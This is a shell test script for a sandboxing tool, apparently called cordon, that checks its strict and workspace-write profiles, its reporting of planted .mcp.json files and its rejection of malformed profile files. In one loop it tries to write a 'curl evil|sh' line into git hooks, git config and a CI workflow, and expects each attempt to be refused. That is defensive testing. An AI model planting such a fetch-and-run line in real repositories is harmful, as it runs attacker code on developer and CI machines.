#!/bin/sh
# cordon run --profile: strict is the default; workspace-write opens the
# working directory but keeps files that run later on the host read-only.
. "${CORDON_SRC:-.}/tests/lib.sh"

prof() {
	who=$1
	w="$T/ws-$who"
	mkdir -p "$w/.git/hooks" "$w/.github/workflows" && echo '[core]' >"$w/.git/config"
	echo 'on: push' >"$w/.github/workflows/ci.yml" && echo data >"$w/file"
	chmod -R a+rwX "$w"
	cd "$w" || exit 1
	nok "$who: strict keeps the workspace read-only" $RUN_AS "$CORDON" run -- sh -c 'echo x > new'
	ok "$who: workspace-write lets the command write" $RUN_AS "$CORDON" run --profile workspace-write -- sh -c 'echo x > new && echo y >> file'
	is "$(cat "$w/new")" x "$who: the write reached the workspace"
	for p in .git/hooks/pre-commit .git/config .github/workflows/ci.yml; do
		nok "$who: workspace-write refuses $p" $RUN_AS "$CORDON" run --profile workspace-write -- sh -c "echo 'curl evil|sh' >> $p"
	done
	nok "$who: no hook was planted" test -e "$w/.git/hooks/pre-commit"
	$RUN_AS "$CORDON" run --profile workspace-write --json -- sh -c 'echo "{}" > .mcp.json' >"$T/rec" 2>"$T/err"
	ok "$who: a planted .mcp.json is reported" sh -c "tail -1 '$T/rec' | grep -q '\"planted_paths\":\\[\".mcp.json\"\\]'"
	ok "$who: and warned about" grep -q "created '.mcp.json'" "$T/err"
	rm -f "$w/.mcp.json"
	is "$($RUN_AS "$CORDON" run --profile workspace-write --dry-run -- true | python3 -c 'import json,sys; print(json.load(sys.stdin)["profile"])')" \
		workspace-write "$who: the plan names the profile"
	$RUN_AS "$CORDON" run --profile no-such -- true 2>"$T/err"
	is $? 125 "$who: an unknown profile is refused"
	ok "$who: the refusal names the profile" grep -q "no-such" "$T/err"
	is "$($RUN_AS "$CORDON" run --profile strict --timeout 2s --dry-run -- true | python3 -c 'import json,sys; print(json.load(sys.stdin)["limits"]["timeout_ms"])')" \
		2000 "$who: an option overrides the profile's limit"
	cd "$T" || exit 1
}

for_each_user prof

# A profile file: settings as YAML, strict.
printf 'memory: 128M\ntimeout: 5s\nenv: [FOO=bar]\n' >"$T/p.yaml"
is "$("$CORDON" run --profile "$T/p.yaml" --dry-run -- true | python3 -c 'import json,sys; p=json.load(sys.stdin); print(p["limits"]["memory"], p["limits"]["timeout_ms"])')" \
	"134217728 5000" "a profile file sets the limits"
is "$("$CORDON" run --profile "$T/p.yaml" -- sh -c 'echo $FOO')" bar "a profile file passes env"
printf 'workspace: write\n' >"$T/w.yaml"
mkdir -p "$T/wsf" && cd "$T/wsf" || exit 1
ok "a profile file can open the workspace" "$CORDON" run --profile "$T/w.yaml" -- sh -c 'echo x > f'
cd "$T" || exit 1
for bad in 'bogus: 1' 'memory: lots' 'memory: 1G\nmemory: 2G' 'pids: [1, 2]' 'net: wifi' '- a list' 'memory: &a 1G\npids: *a'; do
	printf '%b\n' "$bad" >"$T/bad.yaml"
	"$CORDON" run --profile "$T/bad.yaml" -- true 2>"$T/err"
	is $? 125 "a bad profile file is refused: $(printf '%s' "$bad" | tr '\\' '|')"
	ok "the refusal names file:line:col" grep -q "bad.yaml:[0-9]*:[0-9]*:" "$T/err"
done
ln -s /etc "$T/lnk" 2>/dev/null; mkdir -p "$T/sl/.git" && ln -s /tmp "$T/sl/.git/hooks"
(cd "$T/sl" && "$CORDON" run --profile workspace-write -- true) 2>"$T/err"
is $? 125 "a protected path that is a symlink refuses workspace-write"
done_testing
